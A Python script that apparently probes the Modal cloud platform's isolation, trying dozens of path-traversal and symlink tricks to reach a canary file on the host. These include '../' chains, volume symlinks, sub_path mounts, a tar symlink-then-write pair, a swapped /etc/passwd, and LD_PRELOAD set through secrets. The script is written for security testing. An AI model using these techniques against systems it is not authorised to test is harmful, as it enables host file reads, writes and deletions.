"""A client that names paths: every one that could mean a file of the platform's machine is tried, and must not.

Called with a directory of that machine with a file `canary` in it, which the client, being on the same machine, could read itself:
what matters is what the platform makes of the paths. One line of JSON for each.
"""

import io
import json
import os
import sys
import tarfile
import tempfile
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

import modal

BAIT = sys.argv[1] if modal.is_local() else "/nowhere"
CANARY = f"{BAIT}/canary"
CONTENT = "the host's"
UP = "../" * 16
RELATIVE = UP + CANARY.lstrip("/")

app = modal.App("paths")
plain = modal.Image.debian_slim()
volume = modal.Volume.from_name("paths", create_if_missing=True, version=2)
second = modal.Volume.from_name("paths-second", create_if_missing=True)
PATHS: dict[str, Callable[[], Any]] = {}


def path(function: Callable[[], Any]) -> Callable[[], Any]:
    PATHS[function.__name__] = function
    return function


@app.function(image=plain, volumes={"/data": volume})
def link(targets: dict[str, str]) -> None:
    for name, target in targets.items():
        with suppress(FileNotFoundError):
            os.unlink(f"/data/{name}")
        os.symlink(target, f"/data/{name}")
    volume.commit()


def linked(name: str, target: str) -> str:
    link.remote({name: target})
    return name


def content(name: str) -> str:
    return b"".join(volume.read_file(name)).decode(errors="replace")


@path
def reads_a_link_in_a_volume() -> str:
    return content(linked("file", CANARY))


@path
def reads_a_relative_link_in_a_volume() -> str:
    return content(linked("relative", RELATIVE))


@path
def reads_below_a_link_in_a_volume() -> str:
    return content(linked("directory", BAIT) + "/canary")


@path
def lists_below_a_link_in_a_volume() -> str:
    return str([entry.path for entry in volume.listdir(linked("listed", BAIT)) if entry.path.endswith("canary")])


@path
def reads_by_dots() -> str:
    return content(RELATIVE)


@path
def reads_an_absolute_path() -> str:
    return content(CANARY)


@path
def copies_a_link_within_a_volume() -> str:
    volume.copy_files([linked("source", CANARY)], "copied")
    return content("copied")


@path
def copies_onto_a_link() -> str:
    with volume.batch_upload(force=True) as batch:
        batch.put_file(io.BytesIO(b"mine"), "mine")
    volume.copy_files(["mine"], linked("onto", CANARY))
    return ""


@path
def writes_through_a_link() -> str:
    with volume.batch_upload(force=True) as batch:
        batch.put_file(io.BytesIO(b"mine"), linked("through", CANARY))
    return ""


@path
def writes_below_a_link() -> str:
    with volume.batch_upload(force=True) as batch:
        batch.put_file(io.BytesIO(b"mine"), linked("below", BAIT) + "/put")
    return ""


@path
def writes_by_dots() -> str:
    with volume.batch_upload(force=True) as batch:
        batch.put_file(io.BytesIO(b"mine"), f"{UP}{BAIT.lstrip('/')}/put")
    return ""


@path
def removes_below_a_link() -> str:
    volume.remove_file(linked("removed", BAIT) + "/canary")
    return ""


@path
def removes_a_link_with_all_below() -> str:
    volume.remove_file(linked("all", BAIT), recursive=True)
    return ""


def run_with(function: Callable[..., Any], **options: Any) -> Any:
    """An app of its own with one function."""
    one = modal.App("paths-one")
    wrapped = one.function(serialized=True, **{"image": plain, **options})(function)
    with one.run():
        return wrapped.remote()


def look() -> str:
    """What a container sees of the canary, wherever it looks."""
    import glob

    found = []
    for name in glob.glob("/*/canary") + glob.glob("/*/*/canary"):
        with suppress(OSError):
            with open(name) as file:
                found += [name] if "the host's" in file.read() else []
    with suppress(OSError):
        found += [name for name in os.listdir(".") if name == "canary"]
    return str(found) if found else ""


look.__module__ = "__main__"


@path
def mounts_a_volume_above_the_root() -> str:
    return run_with(look, volumes={f"/data/{UP}{BAIT.lstrip('/')}": volume})


@path
def mounts_a_part_of_a_volume_by_dots() -> str:
    return run_with(look, volumes={"/mnt/part": volume.with_mount_options(sub_path=f"{UP}{BAIT.lstrip('/')}")})


@path
def mounts_a_part_of_a_volume_by_a_link() -> str:
    linked("part", BAIT)
    return run_with(look, volumes={"/mnt/part": volume.with_mount_options(sub_path="/part")})


@path
def works_above_the_root() -> str:
    return run_with(look, image=plain.workdir(f"{UP}{BAIT.lstrip('/')}"))


@path
def mounts_where_the_image_has_a_link() -> str:
    image = plain.run_commands(f"ln -s {UP}{BAIT.lstrip('/')} /opt/out", f"ln -s {BAIT} /opt/absolute")
    run_with(look, image=image, volumes={"/opt/out/deep": volume, "/opt/absolute/deep": second})
    return ""


@path
def copies_into_a_link_of_the_image() -> str:
    with tempfile.NamedTemporaryFile("w", suffix=".txt") as file:
        file.write("mine")
        file.flush()
        image = plain.run_commands(f"ln -s {BAIT} /opt/absolute", f"ln -s {UP}{BAIT.lstrip('/')} /opt/out")
        image = image.add_local_file(file.name, "/opt/absolute/copied", copy=True).add_local_file(
            file.name, "/opt/out/copied", copy=True
        )
        return run_with(look, image=image)


@path
def adds_files_by_dots() -> str:
    with tempfile.NamedTemporaryFile("w", suffix=".txt") as file:
        image = plain.add_local_file(file.name, f"/opt/{UP}{BAIT.lstrip('/')}/added")
        return run_with(look, image=image)


@path
def copies_from_above_the_context() -> str:
    with tempfile.TemporaryDirectory() as directory:
        Path(directory, "inside").write_text("mine")
        image = plain.dockerfile_commands(f"COPY {RELATIVE} /opt/taken/canary", context_dir=directory)
        return run_with(look, image=image)


@path
def unpacks_one_archive_over_the_link_of_another() -> str:
    with tempfile.TemporaryDirectory() as directory:
        for name, member, kind, content in (("1.tar", "a", tarfile.SYMTYPE, BAIT), ("2.tar", "a/put", tarfile.REGTYPE, "mine")):
            with tarfile.open(f"{directory}/{name}", "w") as archive:
                entry = tarfile.TarInfo(member)
                entry.type, entry.linkname = kind, content
                entry.size = len(content) if kind == tarfile.REGTYPE else 0
                archive.addfile(entry, io.BytesIO(content.encode()))
        image = plain.dockerfile_commands("ADD 1.tar 2.tar /opt/unpacked/", context_dir=directory)
        return run_with(look, image=image)


@path
def copies_what_is_a_link_in_the_image() -> str:
    """COPY --from another stage follows links of that stage, in that stage."""
    image = plain.dockerfile_commands(
        "RUN mkdir /opt/from",
        f"RUN ln -s {CANARY} /opt/from/canary && ln -s {UP}{CANARY.lstrip('/')} /opt/from/relative",
        "RUN cp -r /opt/from /opt/again",
    )
    return run_with(look, image=image)


@path
def names_a_user_by_a_link() -> str:
    """The list of users is a link to a file of the machine."""
    image = plain.dockerfile_commands(
        f"RUN rm /etc/passwd /etc/group && ln -s {UP}etc/passwd /etc/passwd && ln -s {UP}etc/group /etc/group"
    )
    return run_with(look, image=image)


@path
def has_links_where_the_platform_mounts() -> str:
    """The home and the places of volumes and of the gateway lead elsewhere in this image."""
    commands = [f"rm -rf {place} && ln -s {BAIT} {place}" for place in ("/root", "/__modal")]
    return run_with(look, image=plain.run_commands(*commands), volumes={"/data": volume})


@path
def has_links_for_system_directories() -> str:
    commands = [f"rm -rf /media /srv && ln -s {BAIT} /media && ln -s {BAIT} /srv", f"rm -rf /tmp && ln -s {BAIT} /tmp"]
    return run_with(look, image=plain.run_commands(*commands), volumes={"/media/v": volume})


@path
def has_a_secret_that_means_something_to_the_runtime() -> str:
    variables = {
        "GROUPS_TO_JOIN": CANARY,
        "LD_PRELOAD": CANARY,
        "PATH": f"{BAIT}:/usr/local/bin:/usr/bin:/bin",
        "PYTHONPATH": BAIT,
        "NOTIFY_SOCKET": CANARY,
        "LISTEN_FDS": "3",
    }
    return run_with(look, secrets=[modal.Secret.from_dict(variables)])


def main() -> None:
    wanted = sys.argv[2:]
    with app.run():
        for name, act in PATHS.items():
            if wanted and name not in wanted:
                continue
            report: dict[str, Any] = {"path": name, "reached": False}
            try:
                said = act()
                report["reached"] = CONTENT in str(said) or "canary" in str(said)
                report["said"] = str(said)[:200]
            except Exception as error:  # noqa: BLE001 - most of these are refused, each in its own words
                report["said"] = f"{type(error).__name__}: {error}"[:300]
            report["reached"] |= os.listdir(BAIT) != ["canary"] or Path(CANARY).read_text() != CONTENT
            print(json.dumps(report), flush=True)


if __name__ == "__main__":
    main()
